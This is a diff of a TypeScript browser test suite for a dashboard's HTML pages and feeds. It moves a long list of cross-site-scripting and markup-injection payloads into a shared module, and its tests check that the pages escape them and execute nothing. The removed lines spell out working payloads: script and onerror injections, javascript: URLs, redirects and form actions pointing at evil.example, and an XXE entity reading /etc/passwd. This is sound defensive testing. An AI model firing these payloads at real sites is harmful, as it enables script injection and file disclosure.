@@ -11,60 +11,8 @@ import { project } from '../../src/http/cctray.ts';
 import { clusterPage } from '../../src/http/cluster-page.ts';
 import { deploymentPage } from '../../src/http/deployment-page.ts';
 import { overviewPage } from '../../src/http/overview-page.ts';
+import { HURT, MARKUP } from '../lab/hostile-markup.ts';
 import { sampleClusterView, sampleDeploymentView } from './memory-application.ts';
-
-const CODE = 'window.hurt=1';
-const HEADS = [
-  '',
-  '"',
-  "'",
-  '>',
-  '"/>',
-  "'>",
-  '</td>',
-  '</title>',
-  '</style>',
-  '-->',
-  ']]>',
-  '</text>',
-  '</summary>',
-  '`',
-  '&quot;>',
-  '\u0000',
-  '\u202e',
-  '\ud800',
-  '\ufffe',
-  '\n',
-];
-const TAILS = [
-  `<script>${CODE}</script>`,
-  `<img src=x onerror=${CODE}>`,
-  `<svg onload=${CODE}>`,
-  `<svg/onload=${CODE}//`,
-  `<iframe srcdoc="<script>parent.hurt=1</script>">`,
-  `<a href="javascript:${CODE}">x</a>`,
-  `<body onload=${CODE}>`,
-  `<style>@import 'http://evil.example'</style>`,
-  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
-  `<base href=http://evil.example>`,
-  `<form action=http://evil.example><input>`,
-  `<math><mtext></p><mglyph><svg><mtext><style><path id="</style><img onerror=${CODE} src>">`,
-  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
-  `<template><s>`,
-  `<!--`,
-  `<![CDATA[`,
-  `<?xml-stylesheet href="javascript:${CODE}"?>`,
-  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
-  ` onmouseover=${CODE} x=`,
-  ` style=background:url(javascript:${CODE})`,
-  `&lt;script&gt;${CODE}&lt;/script&gt;`,
-  `&#60;script&#62;`,
-  `&#x3c;img src=x&#x3e;`,
-  `<plaintext>`,
-  `<textarea>`,
-  `<\u0000script>${CODE}</script>`,
-];
-const PAYLOADS = HEADS.flatMap((head) => TAILS.map((tail) => `a${head}${tail}z`));
 
 let browser: Browser;
 let page: Page;
@@ -139,8 +87,8 @@ const SHAPES = `(all) => all.map(({ text, type }) => {
 const shapesOf = (documents: readonly { text: string; type: 'text/html' | 'application/xml' }[]): Promise<Shape[]> =>
   page.evaluate(`(${SHAPES})(${JSON.stringify(documents)})`);
 
-test(`${PAYLOADS.length} hostile texts in every field leave pages, feeds and pictures as they are`, async () => {
-  expect(PAYLOADS.length).toBeGreaterThanOrEqual(500);
+test(`${MARKUP.length} hostile texts in every field leave pages, feeds and pictures as they are`, async () => {
+  expect(MARKUP.length).toBeGreaterThanOrEqual(500);
   const documentsOf = (text: string) => {
     const { html, xml } = documentsSaying(text);
     return [
@@ -149,8 +97,8 @@ test(`${PAYLOADS.length} hostile texts in every field leave pages, feeds and pic
     ];
   };
   const plain = await shapesOf(documentsOf('plain'));
-  for (let i = 0; i < PAYLOADS.length; i += 65) {
-    const batch = PAYLOADS.slice(i, i + 65);
+  for (let i = 0; i < MARKUP.length; i += 65) {
+    const batch = MARKUP.slice(i, i + 65);
     const shapes = await shapesOf(batch.flatMap(documentsOf));
     for (const [j, shape] of shapes.entries()) {
       const payload = batch[Math.floor(j / plain.length)] ?? '';
@@ -162,16 +110,16 @@ test(`${PAYLOADS.length} hostile texts in every field leave pages, feeds and pic
 }, 120_000);
 
 test('what is hostile is still there to read', async () => {
-  const payload = `</td><script>${CODE}</script>&amp;"'`;
+  const payload = `</td><script>${HURT}</script>&amp;"'`;
   const [overview] = await shapesOf([{ text: documentsSaying(payload).html[0] ?? '', type: 'text/html' }]);
   expect(overview?.text).toContain(visibleLine(payload));
 });
 
 test('a browser that shows the pages runs nothing of it', async () => {
-  for (const html of documentsSaying(PAYLOADS.join(' ')).html) {
+  for (const html of documentsSaying(MARKUP.join(' ')).html) {
     await page.setContent(html);
     expect(await page.evaluate('window.hurt')).toBeUndefined();
   }
-  await page.setContent(`<script>${CODE}</script>`);
+  await page.setContent(`<script>${HURT}</script>`);
   expect(await page.evaluate('window.hurt')).toBe(1);
 });
